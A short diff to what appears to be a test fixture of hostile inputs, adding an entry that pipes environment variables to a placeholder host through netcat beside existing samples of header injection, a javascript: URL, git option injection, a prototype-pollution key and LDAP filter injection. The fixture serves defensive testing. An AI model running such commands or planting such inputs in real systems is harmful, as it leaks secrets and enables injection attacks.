@@ -239,6 +239,7 @@ EXAMPLES: dict[str, tuple[str, Leg]] = {
     "header.injected": ("a\r\nBcc: b@a.example", A),
     "url.script_address": ("javascript:alert(1)", A),
     "command.option": ("--upload-pack=touch /tmp/a", A),
+    "command.piped_away": ("env | nc a.example 9", A),
     "command.prototype": ("__proto__", A),
     "sql.filter": ("*)(uid=*))(|(uid=*", A),
 }
